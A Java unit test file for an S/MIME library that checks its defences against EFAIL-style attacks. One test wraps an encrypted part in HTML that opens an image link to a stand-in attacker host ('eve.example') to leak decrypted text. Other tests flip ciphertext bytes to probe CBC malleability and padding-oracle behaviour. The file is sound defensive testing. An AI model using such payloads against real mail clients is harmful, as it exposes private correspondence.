package dev.tegami.smime;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tegami.mime.Content;
import dev.tegami.mime.ContentType;
import dev.tegami.mime.Field;
import dev.tegami.mime.Header;
import dev.tegami.mime.Message;
import dev.tegami.mime.Part;
import dev.tegami.mime.Parts;
import dev.tegami.mime.Source;
import dev.tegami.mime.TransferEncoding;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Ciphertext that is to be decrypted where its carrier can read along. */
class EfailTest {
    private final Trust trust = People.WORLD.trust();
    private final Keys keys = Keys.of(People.BOB);

    @Test
    void ciphertextInsideAMultipartStaysClosed() {
        Message sealed = Letters.plain().with(Smime.encrypt(People.BOB.certificate()));
        Part before = Letters.raw("Content-Type: text/html\n\n<img src=\"http://eve.example/\n")
                .root();
        Part after = Letters.raw("Content-Type: text/html\n\n\">\n").root();
        Parts parts = Parts.of(ContentType.of("multipart", "mixed"), List.of(before, sealed.root(), after));
        Header header = Header.of(List.of(Field.structured("From", "ada@example.org")));
        Opened opened = Smime.open(Letters.arrived(Message.of(Part.of(header, parts))), keys, trust);
        assertThat(opened.layers()).isEmpty();
        assertThat(opened.isDecrypted()).isFalse();
        assertThat(new String(opened.message().toBytes(), java.nio.charset.StandardCharsets.UTF_8))
                .doesNotContain("second line");
        assertThat(opened.message().root().parts().get(1).contentType().subtype())
                .isEqualTo("pkcs7-mime");
    }

    private static Message changed(Message sealed, int at) {
        Content content = sealed.root().content().orElseThrow();
        byte[] cms = content.bytes();
        cms[at < 0 ? cms.length + at : at] ^= 4;
        Content other = Content.of(Source.of(cms), content.contentType(), TransferEncoding.BASE64);
        return Message.of(sealed.root().with(other));
    }

    @Test
    void changedCbcCiphertextIsNeverTrustedAndMarkedMalleable() {
        Message sealed =
                Letters.plain().with(Smime.encrypt(People.BOB.certificate()).compatible());
        for (int at = -40; at < 0; at++) {
            Opened opened = Smime.open(changed(sealed, at), keys, trust);
            assertThat(opened.isTrusted()).isFalse();
            assertThat(opened.verdict().has(Reason.Code.MALLEABLE)).isTrue();
        }
    }

    @Test
    void changedCbcCiphertextAroundASignatureBreaksIt() {
        Message sealed = Letters.plain()
                .with(Smime.sign(People.ADA))
                .with(Smime.encrypt(People.BOB.certificate()).compatible());
        int length = sealed.root().content().orElseThrow().bytes().length;
        for (int at = length - 3000; at < length - 1500; at += 50) {
            Opened opened = Smime.open(changed(sealed, at), keys, trust);
            if (opened.isTrusted()) {
                // a field or a certificate that nobody needs: what is shown is what was signed
                assertThat(opened.message().text()).isEqualTo(Letters.plain().text());
            }
        }
    }

    @Test
    void changedGcmCiphertextReleasesNothing() {
        Message sealed = Letters.plain().with(Smime.encrypt(People.BOB.certificate()));
        for (int at = -60; at < 0; at++) {
            Opened opened = Smime.open(changed(sealed, at), keys, trust);
            assertThat(opened.isDecrypted()).isFalse();
            assertThat(opened.message().text().orElse("")).doesNotContain("second line");
        }
    }

    @Test
    void everyFailureAfterTheKeyLooksTheSame() {
        Message sealed =
                Letters.plain().with(Smime.encrypt(People.BOB.certificate()).rsaPkcs1());
        byte[] cms = sealed.root().content().orElseThrow().bytes();
        int wrapped = -1;
        for (int i = 0; i + 4 < cms.length; i++) {
            if (cms[i] == 4 && cms[i + 1] == (byte) 0x82 && cms[i + 2] == 1 && cms[i + 3] == 0) {
                wrapped = i + 4;
                break;
            }
        }
        assertThat(wrapped).isPositive();
        for (int at = wrapped; at < wrapped + 256; at += 17) {
            Opened opened = Smime.open(changed(sealed, at), keys, trust);
            assertThat(opened.layers().get(0).reasons())
                    .containsExactly(new Reason(Reason.Code.DECRYPTION_FAILED, "the content cannot be decrypted"));
        }
    }
}
